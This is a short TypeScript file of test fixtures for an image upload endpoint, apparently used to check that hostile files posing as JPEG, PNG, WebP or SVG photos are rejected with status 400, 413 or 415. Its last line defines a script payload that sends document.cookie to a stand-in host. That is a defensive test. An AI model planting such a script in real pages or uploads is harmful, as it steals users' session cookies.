/** A file that an attacker might upload instead of a photo. */
export type HostileFile = {
  kind: string;
  fileName: string;
  type: string;
  bytes: Buffer;
  /** The expected status of the response. */
  status: 400 | 413 | 415;
};

/** Valid photos from which hostile files are made. */
export type Photos = Record<"jpeg" | "png" | "webp", Buffer>;

/** The file names and types that a file may claim. */
export const CLAIMS = [
  ["photo.jpg", "image/jpeg"],
  ["photo.png", "image/png"],
  ["photo.webp", "image/webp"],
  ["photo.svg", "image/svg+xml"],
] as const;

export const SCRIPT = '<script>fetch("//example.com/?"+document.cookie)</script>';
